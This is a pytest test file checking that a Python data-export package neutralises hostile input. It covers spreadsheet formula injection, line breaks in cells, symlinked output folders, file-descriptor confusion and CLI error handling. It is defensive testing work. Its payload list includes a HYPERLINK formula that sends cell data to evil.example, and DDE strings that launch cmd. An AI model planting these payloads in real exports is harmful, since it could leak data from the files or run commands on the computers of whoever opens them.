"""Hostile and careless input on the way out (issue 22): what the exports write, where they
write it, the argument policy at the edges, and a command line that never prints a
traceback.  Each test starts from a reproduction of the reliability probe
(reviews/reliability-probe.md: S1, X1, S4, D6, D7, D9, A1-A7, C1-C7), then tries
variants it did not list."""

import contextlib
import csv
import gc
import io
import json
import os
import pathlib
import signal
import subprocess
import sys
import time
from typing import Any

import attrs
import pytest

import shanghai_plan as sp
from shanghai_plan import export
from shanghai_plan.cli import main as cli_main

BASE = pathlib.Path(__file__).parent / "malformed" / "base.json"


def base() -> dict[str, Any]:
    data: dict[str, Any] = json.loads(BASE.read_text(encoding="utf-8"))
    return data


def plan_of(data: dict[str, Any]) -> sp.Plan:
    return sp.loads(json.dumps(data, ensure_ascii=False))


def with_text(p: sp.Plan, kind: str, index: int, **changes: str) -> sp.Plan:
    """``p`` with text changed in code: load refuses control characters in any text, but
    a plan built in code is not checked, so the exports must still cope with them."""
    records = getattr(p, kind)
    changed = attrs.evolve(records[index], **changes)
    return attrs.evolve(p, **{kind: (*records[:index], changed, *records[index + 1 :])})


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


# ------------------------------------------------- S1: formulas in a spreadsheet

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',  # the report's
    "@SUM(1+1)*cmd|' /C calc'!A0",  # the report's
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1",
    "＝1+1",  # the full-width forms
    "＋1",
    "－1",
    "＠SUM(A1)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_excel_neutralises_a_formula_in_every_text_cell(payload: str) -> None:
    p = with_text(plan_of(base()), "industries", 0, name_en=payload)
    p = with_text(p, "industries", 0, description="fine; " + payload)  # not at the start: kept
    p = with_text(p, "industries", 1, name_zh=payload)
    plain = read(sp.to_csv("industries", plan=p))
    excel = read(sp.to_csv("industries", excel=True, plan=p))
    assert plain[0]["name_en"] == plain[1]["name_zh"] == payload  # interchange: as it is
    assert excel[0]["name_en"] == excel[1]["name_zh"] == "'" + payload
    assert excel[0]["description"] == plain[0]["description"] == "fine; " + payload
    assert len(plain) == len(excel) == len(p.industries)


def test_excel_file_and_plain_file_differ_only_in_neutralised_cells(
    tmp_path: pathlib.Path,
) -> None:
    d = base()
    d["targets"][0]["statement"] = "=1+1"
    p = plan_of(d)
    sp.write_csv("targets", tmp_path / "x.csv", excel=True, plan=p)
    sp.write_csv("targets", tmp_path / "p.csv", plan=p)
    raw = (tmp_path / "x.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    excel = read(raw.decode("utf-8-sig"))
    plain = read((tmp_path / "p.csv").read_text(encoding="utf-8"))
    assert excel[0].pop("statement") == "'=1+1"
    assert plain[0].pop("statement") == "=1+1"
    assert excel == plain


def test_excel_leaves_numbers_alone_and_quotes_text() -> None:
    # the bundled observations hold negative figures: numbers, never escaped or quoted
    text = sp.to_csv("observations", excel=True)
    negatives = [r for r in sp.to_records("observations") if (r["value"] or 0) < 0]
    assert negatives
    for line in text.splitlines()[1:]:
        first = line.split(",")[0]
        assert first.startswith('"')  # the id, a text cell
        assert first.endswith('"')
    cells = {(r["id"], float(r["value"])) for r in read(text)}
    for r in negatives:
        assert (r["id"], r["value"]) in cells
    assert read(text) == read(sp.to_csv("observations"))  # no bundled text looks like one


def test_a_separator_inside_a_text_cell_cannot_start_a_cell() -> None:
    # a spreadsheet in a locale that splits on ";" sees one quoted cell, not "=..." after it
    p = with_text(plan_of(base()), "industries", 0, name_en="a;=1+1")
    line = sp.to_csv("industries", excel=True, plan=p).splitlines()[1]
    assert '"a;=1+1"' in line


# ------------------------------------------------------ X1: a lone CR in a cell


@pytest.mark.parametrize("text", ["first\rsecond", "first\r\nsecond", "\r", "a\r\rb\n"])
def test_a_line_break_in_a_cell_never_splits_a_row(text: str) -> None:
    p = with_text(plan_of(base()), "targets", 0, statement=text)
    n = len(sp.targets(plan=p))
    for excel in (False, True):
        written = sp.to_csv("targets", excel=excel, plan=p)
        rows = list(csv.reader(io.StringIO(written.lstrip("\ufeff"), newline="")))
        assert len(rows) == n + 1
        statement = rows[0].index("statement")
        assert rows[1][statement] == ("'" + text if excel and text[0] == "\r" else text)


def test_a_lone_cr_reads_back_in_pandas_and_duckdb(tmp_path: pathlib.Path) -> None:
    text = "first\rsecond"  # the report's reproduction
    p = with_text(plan_of(base()), "targets", 0, statement=text)
    n = len(sp.targets(plan=p))
    pd = pytest.importorskip("pandas")
    frame = pd.read_csv(io.StringIO(sp.to_csv("targets", plan=p)), keep_default_na=False)
    assert len(frame) == n
    assert frame["statement"][0] == text
    out = sp.write_datapackage(tmp_path / "dp", plan=p)
    duckdb = pytest.importorskip("duckdb")
    got = duckdb.sql(
        f"SELECT statement FROM read_csv('{out.parent / 'targets.csv'}', header=true, "
        "all_varchar=true)"
    ).fetchall()
    assert len(got) == len(p.targets)
    assert (text,) in got


# -------------------------------------------------------- S4: the data package


def test_datapackage_never_follows_a_symlink(tmp_path: pathlib.Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious", encoding="utf-8")
    dp = tmp_path / "dp"
    dp.mkdir()
    (dp / "targets.csv").symlink_to(victim)
    with pytest.raises(FileExistsError, match=r"targets\.csv"):
        sp.write_datapackage(dp)
    assert victim.read_text(encoding="utf-8") == "precious"
    assert sorted(os.listdir(dp)) == ["targets.csv"]
    # the directory itself a link (to a directory, even an empty one): refused too
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "link").symlink_to(real, target_is_directory=True)
    with pytest.raises(FileExistsError, match="symbolic link"):
        sp.write_datapackage(tmp_path / "link")
    assert os.listdir(real) == []
    assert _leftovers(tmp_path) == []


def _leftovers(folder: pathlib.Path) -> list[str]:
    return [n for n in os.listdir(folder) if n.endswith(".tmp")]


def test_datapackage_is_all_or_nothing(
    tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    dp = tmp_path / "dp"
    first = sp.write_datapackage(dp)
    before = {n: (dp / n).read_bytes() for n in os.listdir(dp)}
    d = base()
    calls = []

    def failing(rows: Any, fh: Any, columns: Any = None, **kw: Any) -> None:
        calls.append(1)
        if len(calls) == 3:
            raise OSError(28, "No space left on device")
        real(rows, fh, columns, **kw)

    real = export._write_csv
    monkeypatch.setattr(export, "_write_csv", failing)
    with pytest.raises(OSError, match="No space"):
        sp.write_datapackage(dp, plan=plan_of(d))
    assert {n: (dp / n).read_bytes() for n in os.listdir(dp)} == before
    assert first == dp / "datapackage.json"
    assert _leftovers(tmp_path) == []
    calls.clear()
    with pytest.raises(OSError, match="No space"):  # into a new directory: none is left
        sp.write_datapackage(tmp_path / "new", plan=plan_of(d))
    assert not (tmp_path / "new").exists()
    assert _leftovers(tmp_path) == []


def test_an_earlier_package_is_replaced_whole(tmp_path: pathlib.Path) -> None:
    dp = tmp_path / "dp"
    sp.write_datapackage(dp)
    (dp / "stale.csv").write_text("old\n", encoding="utf-8")
    out = sp.write_datapackage(dp, plan=plan_of(base()))
    assert json.loads(out.read_text(encoding="utf-8"))["version"] == "test-1"
    assert "stale.csv" not in os.listdir(dp)
    assert _leftovers(tmp_path) == []
    empty = tmp_path / "empty"
    empty.mkdir()
    assert sp.write_datapackage(empty).is_file()


@pytest.mark.parametrize("content", ["notes.txt", "sub/", "data.csv"])
def test_a_directory_that_is_not_a_package_is_left_alone(
    content: str, tmp_path: pathlib.Path
) -> None:
    dp = tmp_path / "dp"
    dp.mkdir()
    if content.endswith("/"):
        (dp / content).mkdir()
    else:
        (dp / content).write_text("mine", encoding="utf-8")
    with pytest.raises(FileExistsError):
        sp.write_datapackage(dp)
    assert os.listdir(dp) == [content.rstrip("/")]
    (tmp_path / "file").write_text("mine", encoding="utf-8")
    with pytest.raises(FileExistsError, match="not a directory"):
        sp.write_datapackage(tmp_path / "file")
    assert _leftovers(tmp_path) == []


@pytest.mark.parametrize("where", [".", ".."])
def test_the_current_directory_is_never_replaced(
    where: str, tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sp.write_datapackage(tmp_path / "dp")
    monkeypatch.chdir(tmp_path / "dp")
    before = sorted(os.listdir())
    with pytest.raises(FileExistsError, match="current directory"):
        sp.write_datapackage(where)
    assert sorted(os.listdir()) == before
    assert _leftovers(tmp_path) == []


@pytest.mark.parametrize("directory", ["", None, 0, 1, True, b"dp"])
def test_datapackage_refuses_an_empty_or_non_path(
    directory: object, tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    error = ValueError if directory == "" else TypeError
    with pytest.raises(error, match="directory"):
        sp.write_datapackage(directory)  # type: ignore[arg-type]
    assert os.listdir(tmp_path) == []


# ----------------------------------------------------- D7: an int is not a path


@pytest.mark.parametrize("value", [0, 1, 2, True, False, 3.0, None, b"x"])
def test_an_int_is_never_taken_for_a_file_descriptor(value: object) -> None:
    before = [os.fstat(fd).st_ino for fd in (0, 1, 2)]
    calls = [
        lambda: sp.write_csv("industries", value),  # type: ignore[arg-type]
        lambda: sp.dump(value),  # type: ignore[arg-type]
    ]
    if value is not None:  # load(None) is the bundled plan
        calls.append(lambda: sp.load(value))  # type: ignore[arg-type]
    for call in calls:
        with pytest.raises(TypeError, match=r"^path must be a str or os\.PathLike"):
            call()
    assert [os.fstat(fd).st_ino for fd in (0, 1, 2)] == before


def test_an_int_path_leaves_the_process_streams_open() -> None:
    # in a process of its own: the report's stdout, stderr and stdin cases, then print
    code = (
        "import shanghai_plan as sp\n"
        "for call in (lambda: sp.write_csv('industries', 1), lambda: sp.dump(2),\n"
        "             lambda: sp.load(0), lambda: sp.load(True)):\n"
        "    try:\n"
        "        call()\n"
        "    except TypeError:\n"
        "        pass\n"
        "import sys\n"
        "print('still', sys.stdin.read())\n"
        "print('here', file=sys.stderr)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], input="open", capture_output=True, text=True, check=False
    )
    assert (done.returncode, done.stdout, done.stderr) == (0, "still open\n", "here\n")


def test_an_empty_path_is_a_value_error(tmp_path: pathlib.Path) -> None:
    for call in (lambda: sp.write_csv("industries", ""), lambda: sp.dump(""), lambda: sp.load("")):
        with pytest.raises(ValueError, match="path must not be empty"):
            call()


# ------------------------------------------ D6: a title in one language, or none


@pytest.mark.parametrize("keep", [("zh",), ("en",), ()])
def test_a_plan_with_titles_in_one_language_exports(
    keep: tuple[str, ...], tmp_path: pathlib.Path
) -> None:
    d = base()
    d["titles"] = [t for t in d["titles"] if t["language"] in keep]
    # load refuses a plan without a title; one built in code must still export
    p = plan_of(d) if keep else attrs.evolve(plan_of(base()), titles=())
    out = sp.write_datapackage(tmp_path / "dp", plan=p)
    descriptor = json.loads(out.read_text(encoding="utf-8"))
    wanted = {("zh",): "小部件规划", ("en",): "Widget Plan", (): "plan"}[keep]
    assert descriptor["title"] == wanted
    assert descriptor["description"].startswith(f"{wanted} (No. 1) as tables")
    for kind in sp.RECORD_KINDS:
        assert read(sp.to_csv(kind, plan=p)) == read(sp.to_csv(kind, plan=p))
    if keep:
        assert sp.loads(sp.dumps(p)) == p
    else:
        with pytest.raises(sp.PlanDataError, match="at least one title"):
            sp.loads(sp.dumps(p))
    assert "小部件规划" in p._repr_html_() or keep != ("zh",)


def test_the_bundled_package_keeps_both_titles() -> None:
    plan = sp.load()
    descriptor, _ = export.datapackage()
    assert descriptor["title"] == plan.title("en")
    assert descriptor["description"].startswith(
        f"{plan.title('en')} ({plan.title('zh')}, {plan.document_number}) as tables"
    )


# ------------------------------------------------ D9: suggestions in bounded time


def test_suggestions_on_long_keys_take_bounded_time() -> None:
    d = base()
    n = 16_000  # 4.2 s before; the work no longer grows with the length
    name = "".join("abcdefghij"[(i * 7 + i // 3) % 10] for i in range(n))
    d["industries"][0]["name_en"] = name
    d["targets"][0]["id"] = "tgt-" + name  # a long id, looked up by target()
    d["industries"][1]["name_en"] = name[::-1]
    p = plan_of(d)
    typo = name[: n // 2] + "z" + name[n // 2 + 1 :]
    start = time.perf_counter()
    with pytest.raises(sp.NotFoundError) as found:
        sp.industry(typo, plan=p)
    with pytest.raises(sp.NotFoundError) as found_target:
        sp.target("tgt-" + typo, plan=p)
    with pytest.raises(sp.NotFoundError):
        sp.record("x" * 1_000_000, plan=p)
    assert time.perf_counter() - start < 2.0
    assert found.value.suggestions == (name,)
    assert found_target.value.suggestions == ("tgt-" + name,)


def test_short_keys_are_suggested_as_before() -> None:
    with pytest.raises(sp.NotFoundError, match="did you mean 'tgt-chip-design-3nm'"):
        sp.target("tgt-chip-design")


# ------------------------------------------------- argument policy at the edges


@pytest.mark.parametrize("value", [10**400, -(10**400)])
def test_a_tolerance_beyond_the_float_range_is_a_value_error(value: int) -> None:
    with pytest.raises(ValueError, match=r"^tolerance must be a finite number >= 0"):
        sp.progress(tolerance=value)
    with pytest.raises(ValueError, match=r"^tolerance must be a finite number >= 0"):
        sp.progress("tgt-nev-output-1-2m", tolerance=value)


@pytest.mark.parametrize("value", ["no", "yes", 1, 0, None, [True]])
def test_export_flags_are_bools(value: object, tmp_path: pathlib.Path) -> None:
    with pytest.raises(TypeError, match=r"^excel must be a bool"):
        sp.to_csv("targets", excel=value)  # type: ignore[arg-type]
    with pytest.raises(TypeError, match=r"^excel must be a bool"):
        sp.write_csv("targets", tmp_path / "x.csv", excel=value)  # type: ignore[arg-type]
    assert not (tmp_path / "x.csv").exists()
    for call in (sp.to_records, sp.to_csv, sp.to_dataframe):
        with pytest.raises(TypeError, match=r"^all_documents must be a bool"):
            call("targets", all_documents=value)  # type: ignore[operator]


@pytest.mark.parametrize(
    ("value", "error"),
    [
        ("nope", TypeError),
        (1.5, TypeError),
        (True, TypeError),
        (-1, ValueError),
        (17, ValueError),
        (10**400, ValueError),
    ],
)
def test_indent_is_a_small_int(value: object, error: type[Exception]) -> None:
    with pytest.raises(error, match=r"^indent must be an int"):
        sp.dumps(indent=value)  # type: ignore[arg-type]


def test_indent_none_and_zero_still_work() -> None:
    assert "\n" not in sp.dumps(indent=None)
    assert sp.loads(sp.dumps(indent=0)) == sp.load()


@pytest.mark.parametrize("value", [[], {}, "Target", 5])
def test_record_kind_is_named_for_any_bad_value(value: object) -> None:
    with pytest.raises(TypeError, match=r"^kind must be a record class"):
        sp.record("x", value)  # type: ignore[call-overload]


def test_cited_sources_takes_a_record_or_its_id() -> None:
    by_id = sp.cited_sources("tgt-nev-output-1-2m")
    assert by_id
    assert by_id == sp.cited_sources(sp.target("tgt-nev-output-1-2m"))
    assert sp.cited_sources(sp.load().sources[0]) == ()  # a source cites nothing itself
    with pytest.raises(TypeError, match=r"^rec must be a record or a record id"):
        sp.cited_sources(5)
    with pytest.raises(TypeError, match=r"^plan must be a Plan"):
        sp.cited_sources("tgt-nev-output-1-2m", plan=object())  # type: ignore[arg-type]
    with pytest.raises(sp.NotFoundError):
        sp.cited_sources("tgt-nope")


@pytest.mark.parametrize("value", [None, 5, "tgt-nev-output-1-2m", b"x"])
def test_show_takes_an_iterable_of_records(value: object) -> None:
    with pytest.raises(TypeError, match=r"^records must be an iterable of records"):
        sp.show(value)  # type: ignore[arg-type]


# ------------------------------------ S2, D5: a record shows its own plan's sources


def test_another_plan_cannot_put_its_links_under_the_bundled_records() -> None:
    d = json.loads(sp.dumps())
    for s in d["sources"]:
        s.update(url="https://evil.example/" + s["id"], publisher="EVIL")
    other = sp.loads(json.dumps(d, ensure_ascii=False))
    sp.targets(plan=other)  # any question indexes it
    for rec in (sp.target("tgt-nev-output-1-2m"), other.targets[0], sp.industry("ICs")):
        html = rec._repr_html_()
        assert "evil.example" not in html
        assert "EVIL" not in html
    # the reverse: the user's record does not show the bundled plan's link either
    bundled_url = sp.source(other.targets[0].citations[0].source_id).url
    assert bundled_url not in other.targets[0]._repr_html_()
    del other
    gc.collect()
    assert bundled_url in sp.target(sp.load().targets[0].id)._repr_html_()


def test_an_indicator_of_a_user_plan_displays() -> None:
    p = sp.load(BASE)
    html = p.indicators[0]._repr_html_()  # KeyError: 'src-a' before
    assert "figures: shown once its plan is known" in html
    sp.targets(plan=p)  # once the plan is known, its own figures and sources
    html = p.indicators[0]._repr_html_()
    assert "figures: shown once" not in html
    assert sp.series(p.indicators[0], partial=True, plan=p).points


# ------------------------------------------------ the command line: no traceback


def cli(
    *args: str, env: dict[str, str] | None = None, **kw: Any
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "shanghai_plan", *args],
        capture_output=True,
        text=True,
        encoding="utf-8",
        errors="replace",
        env={**os.environ, **(env or {})},
        timeout=60,
        check=False,
        **kw,
    )


def main(*args: str, capsys: pytest.CaptureFixture[str]) -> subprocess.CompletedProcess[str]:
    """The command run in this process (for what needs no process of its own)."""
    try:
        rc = cli_main(list(args))
    except SystemExit as exc:  # argparse's usage errors
        rc = int(exc.code or 0)
    out, err = capsys.readouterr()
    return subprocess.CompletedProcess(list(args), rc, out, err)


def one_line(done: subprocess.CompletedProcess[str], rc: int, words: str) -> None:
    assert done.returncode == rc, done.stderr
    assert "Traceback" not in done.stderr
    lines = [x for x in done.stderr.splitlines() if not x.startswith(("usage:", " "))]
    assert len(lines) == 1, done.stderr
    assert words in lines[0]


@pytest.mark.parametrize("command", ["targets", "progress", "scorecard", "export targets"])
def test_document_with_all_documents_is_a_usage_error(
    command: str, capsys: pytest.CaptureFixture[str]
) -> None:
    args = (*command.split(), "--document", "doc-sh-am-action-2023-2025", "--all-documents")
    one_line(main(*args, capsys=capsys), 2, "not both")


@pytest.mark.parametrize(
    "args",
    [["export", "--datapackage", ""], ["export", "targets", "-o", ""], ["validate", ""]],
)
def test_an_empty_path_is_a_usage_error(
    args: list[str],
    tmp_path: pathlib.Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    one_line(main(*args, capsys=capsys), 2, "path is empty")
    assert os.listdir(tmp_path) == []


def test_negative_max_bytes_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    one_line(main("validate", str(BASE), "--max-bytes", "-1", capsys=capsys), 2, ">= 0")


def test_stdout_that_cannot_encode_is_one_line() -> None:
    # the report's reproduction, in a process of its own
    done = cli(env={"PYTHONIOENCODING": "ascii"})
    one_line(done, 1, "PYTHONIOENCODING=utf-8")
    assert done.stdout == ""


@pytest.mark.parametrize(
    ("stream", "args", "words"),
    [
        ("latin-1", ["industries", "--lang", "zh"], "(latin-1) cannot write U+96C6"),
        ("/dev/full", ["export", "plan"], "No space left on device"),
        (None, ["export", "plan"], "standard output is closed"),  # started with >&-
    ],
)
def test_output_that_cannot_be_written_is_one_line(
    stream: str | None,
    args: list[str],
    words: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    out: Any = None
    if stream == "latin-1":
        out = io.TextIOWrapper(io.BytesIO(), encoding="latin-1")
    elif stream is not None:
        out = open(stream, "w", encoding="utf-8")  # noqa: SIM115 -- closed below
    monkeypatch.setattr(sys, "stdout", out)
    try:
        one_line(main(*args, capsys=capsys), 1, words)
    finally:
        if out is not None:
            with contextlib.suppress(OSError):  # what /dev/full still holds
                out.close()


def test_a_closed_stdout_is_no_error_when_writing_to_a_file(
    tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(sys, "stdout", None)
    done = main("export", "targets", "-o", str(tmp_path / "t.csv"), capsys=capsys)
    assert (done.returncode, done.stderr) == (0, "")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8") == sp.to_csv("targets")


@pytest.mark.parametrize("kind", ["fifo", "directory", "device"])
def test_validate_refuses_what_is_not_a_regular_file(
    kind: str, tmp_path: pathlib.Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "f"
    if kind == "fifo":
        os.mkfifo(path)  # no writer: opening it would block for ever
    elif kind == "directory":
        path.mkdir()
    else:
        path = pathlib.Path("/dev/zero")
    one_line(main("validate", str(path), capsys=capsys), 1, "not a regular file")


def test_validate_reads_standard_input(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    text = BASE.read_bytes()
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(text)))
    done = main("validate", "-", capsys=capsys)
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("-: valid plan 'plan'")
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(text)))
    one_line(main("validate", "-", "--max-bytes", "10", capsys=capsys), 1, "<stdin>")


def test_ctrl_c_exits_130_quietly() -> None:
    code = (
        "import sys; from shanghai_plan.cli import main\n"
        "print('ready', flush=True)\n"
        "sys.exit(main(['validate', '-']))\n"  # blocks reading standard input
    )
    proc = subprocess.Popen(
        [sys.executable, "-c", code],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert proc.stdout is not None
        assert proc.stdout.readline() == "ready\n"
        time.sleep(0.5)  # into main's read
        proc.send_signal(signal.SIGINT)
        _, err = proc.communicate(timeout=30)
    finally:
        proc.kill()
    assert proc.returncode == 130, err
    assert "Traceback" not in err
    assert err.strip() == "shanghai-plan: interrupted"
